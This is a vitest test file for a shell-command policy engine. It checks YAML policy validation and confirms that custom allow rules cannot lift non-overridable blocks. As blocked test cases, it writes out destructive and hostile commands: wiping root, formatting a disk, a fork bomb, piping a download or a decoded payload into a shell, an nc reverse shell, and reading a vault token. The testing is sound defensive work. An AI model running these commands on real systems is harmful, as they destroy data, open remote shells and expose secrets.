import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  configFromFile,
  createPolicyEngine,
  formatIssue,
  NON_OVERRIDABLE,
  parsePolicyFile,
  readPolicyFile,
} from '../../src/policy/index.js';

const fixture = (name: string): string =>
  fileURLToPath(new URL(`../fixtures/policy/${name}`, import.meta.url));

describe('policy file validation', () => {
  it('loads a valid file, warning about allows without an args pattern', async () => {
    const result = await readPolicyFile(fixture('valid.yaml'));
    expect(result.errors).toEqual([]);
    expect(result.value?.profile).toBe('strict');
    expect(result.warnings.map((w) => w.path)).toEqual(['allow[1]']);
  });

  it('reports every schema error with file, line, column and path', async () => {
    const file = fixture('invalid.yaml');
    const result = await readPolicyFile(file);
    expect(result.value).toBeUndefined();
    const lines = result.errors.map(formatIssue);
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(new RegExp(`^${file}:1:10: profile: `)),
        expect.stringMatching(/:3:5: writable_roots\[0\]: must be an absolute path/),
        expect.stringMatching(/:5:9: allow\[0\]\.id: use lowercase/),
        expect.stringMatching(/:7:5: allow\[0\]\.argz: unknown field "argz"/),
        expect.stringMatching(/:11:17: deny\[0\]\.args_regex: not a valid regular expression/),
      ]),
    );
  });

  it('reports YAML syntax errors with a position', async () => {
    const result = await readPolicyFile(fixture('broken.yaml'));
    expect(result.errors[0]).toMatchObject({ code: 'POLICY_YAML', line: expect.any(Number) });
  });

  it('reports a missing file as an error, not a crash', async () => {
    const result = await readPolicyFile(fixture('nope.yaml'));
    expect(result.errors[0]?.message).toMatch(/cannot read policy file/);
  });

  it('rejects duplicate rule ids', () => {
    const result = parsePolicyFile('deny:\n  - {id: a, command: x}\n  - {id: a, command: y}\n', 'p.yaml');
    expect(result.errors).toEqual([
      expect.objectContaining({ code: 'POLICY_DUPLICATE_ID', path: 'deny[1].id', line: 3 }),
    ]);
  });
});

describe('custom rules', () => {
  const ctx = { cwd: '/srv/apps/web' };

  it('applies allow, deny and roots from the file', async () => {
    const { value } = await readPolicyFile(fixture('valid.yaml'));
    if (!value) throw new Error('fixture must be valid');
    const engine = createPolicyEngine(configFromFile(value));
    expect((await engine.check('docker compose up -d', ctx)).allowed).toBe(true);
    expect((await engine.check('docker run img', ctx)).rule).toBe('not_allowlisted');
    expect((await engine.check('./start.sh --port 8000', ctx)).allowed).toBe(true);
    expect((await engine.check('npm publish', ctx)).rule).toBe('custom:no-publish');
    expect((await engine.check('npm publish', ctx)).risk).toBe(60);
    expect((await engine.check('cat /srv/vault/token', ctx)).rule).toBe('secret_read');
  });

  it('lets a custom allow lift an overridable rule', async () => {
    const engine = createPolicyEngine({
      allow: [{ id: 'nginx', command: 'systemctl', args: 'reload nginx' }],
    });
    expect((await engine.check('systemctl reload nginx', ctx)).allowed).toBe(true);
    expect((await engine.check('systemctl stop nginx', ctx)).rule).toBe('service_foreign_unit');
  });

  it('never lets a custom allow lift a non-overridable rule', async () => {
    const engine = createPolicyEngine({
      allow: [
        { id: 'all-rm', command: 'rm', args: '*' },
        { id: 'all-bash', command: ['bash', 'sh', 'nc', ':', 'mkfs*', 'python3'], args: '*' },
        { id: 'all-curl', command: 'curl', args: '*' },
      ],
    });
    const cases: [string, string][] = [
      ['rm -rf /', 'fs_destroy_system'],
      ['curl x | bash', 'remote_code_exec'],
      ['echo aWQ= | base64 -d | sh', 'decode_exec'],
      ['nc -e /bin/sh 1.2.3.4 1', 'reverse_shell'],
      [':(){ :|:& };:', 'fork_bomb'],
      ['mkfs.ext4 /dev/sda', 'disk_destroy'],
      ['bash -c "$X"', 'dynamic_code'],
    ];
    for (const [command, rule] of cases) {
      const decision = await engine.check(command, ctx);
      expect(decision.rule, command).toBe(rule);
      expect(NON_OVERRIDABLE).toContain(rule);
    }
  });

  it('does not let an allow vouch for dynamic arguments', async () => {
    const engine = createPolicyEngine({ allow: [{ id: 'rm', command: 'rm', args: '-rf *' }] });
    expect((await engine.check('rm -rf "$DIR"', ctx)).rule).toBe('fs_destroy_unresolved');
    expect((await engine.check('rm -rf /srv/other', ctx)).allowed).toBe(true);
  });
});
